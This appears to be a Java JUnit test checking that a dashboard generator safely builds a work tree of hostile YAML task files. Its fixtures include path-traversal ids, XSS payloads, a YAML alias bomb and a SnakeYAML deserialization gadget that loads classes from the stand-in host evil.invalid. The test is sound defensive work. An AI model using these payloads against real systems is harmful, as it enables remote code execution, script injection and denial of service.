package dev.dashgen.cli;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTimeoutPreemptively;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import java.io.IOException;
import java.io.RandomAccessFile;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.List;
import java.util.Set;
import java.util.TreeSet;
import org.jsoup.Jsoup;
import org.jsoup.nodes.Document;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** A work tree full of hostile files builds: escaped text or problems, never a crash, a hang or a file outside the output dir. */
class HostileBuildTest {
    @TempDir
    Path tmp;

    @Test
    void aHostileWorkTreeBuildsInsideTheOutputDirOnly() throws IOException {
        Fixture f = new Fixture(tmp.resolve("repo"))
                .task("inbox/escape.yaml", "id: ../../../../escaped\ntitle: \"<script>alert(1)</script>\"\n")
                .task("inbox/abs.yaml", "id: " + tmp.resolve("absolute") + "\ntitle: Absolute\n")
                .task("assigned/<img src=x onerror=alert(1)>/t-1.yaml", "id: t-1\ntitle: Agent folder\n")
                .task("inbox/desc.yaml", "id: desc\ndescription: \"[x](javascript:alert(1)) <script>alert(2)</script>\"\n")
                .task("inbox/bomb.yaml", "id: bomb\na: &a [x, x, x, x, x, x, x, x, x]\nb: &b [*a, *a, *a, *a, *a, *a, *a, *a, *a]\n"
                        + "c: &c [*b, *b, *b, *b, *b, *b, *b, *b, *b]\nd: &d [*c, *c, *c, *c, *c, *c, *c, *c, *c]\n"
                        + "e: &e [*d, *d, *d, *d, *d, *d, *d, *d, *d]\nf: &f [*e, *e, *e, *e, *e, *e, *e, *e, *e]\n")
                .task("inbox/java.yaml", "id: java\nx: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://evil.invalid\"]]]]\n")
                .task("inbox/deep.yaml", "id: deep\nx: " + "{a: ".repeat(20_000) + "1" + "}".repeat(20_000) + "\n");
        Files.write(f.work.resolve("inbox/latin1.yaml"), "id: latin1\ntitle: Caf\u00e9\n".getBytes(StandardCharsets.ISO_8859_1));
        try (RandomAccessFile big = new RandomAccessFile(f.work.resolve("inbox/big.yaml").toFile(), "rw")) {
            big.setLength(20L * 1024 * 1024);
        }
        Set<String> before = new TreeSet<>(Cli.paths(tmp));

        Cli.Run r = assertTimeoutPreemptively(Duration.ofSeconds(20), () -> f.build());

        assertEquals(0, r.exit(), r::toString);
        Set<String> added = new TreeSet<>(Cli.paths(tmp));
        added.removeAll(before);
        assertTrue(added.stream().allMatch(p -> p.startsWith("repo/_site/")), added::toString);
        assertFalse(Files.exists(tmp.resolve("escaped.html")));
        assertFalse(Files.exists(tmp.resolve("absolute.html")));

        JsonNode problems = new ObjectMapper().readTree(f.out.resolve("data/problems.json").toFile()).get("problems");
        List<String> files = problems.findValuesAsText("file");
        assertTrue(files.containsAll(List.of("bomb", "java", "deep", "big", "latin1").stream()
                .map(n -> "work/collaboration/inbox/" + n + ".yaml").toList()), files::toString);
        Document board = Jsoup.parse(Files.readString(f.out.resolve("index.html")));
        assertTrue(board.select(".card-title").eachText().contains("<script>alert(1)</script>"));
        assertTrue(board.select(".card").eachAttr("data-agent").contains("<img src=x onerror=alert(1)>"));
        assertTrue(board.select("script").stream().noneMatch(s -> s.data().contains("alert")));
        assertTrue(board.select("img").isEmpty());
    }
}
